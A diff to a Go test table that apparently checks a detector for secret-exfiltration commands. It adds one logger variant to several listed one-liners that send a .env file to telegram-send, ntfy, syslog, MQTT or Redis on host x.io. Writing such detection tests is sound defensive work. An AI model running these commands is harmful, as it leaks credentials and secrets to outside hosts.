@@ -189,6 +189,7 @@ func TestServices(t *testing.T) {
 		{`telegram-send "$(cat .env)"`, "secret", ""},
 		{`ntfy publish topic "$(cat .env)"`, "secret", ""},
 		{`logger -n x.io -f .env`, "secret", "x.io"},
+		{`logger -d -n x.io -P 514 -f .env`, "secret", "x.io"},
 		{`cat .env | logger --server x.io`, "secret", "x.io"},
 		{`mosquitto_pub -h x.io -t t -f .env`, "secret", "x.io"},
 		{`cat .env | redis-cli -h x.io -x set k`, "secret", "x.io"},
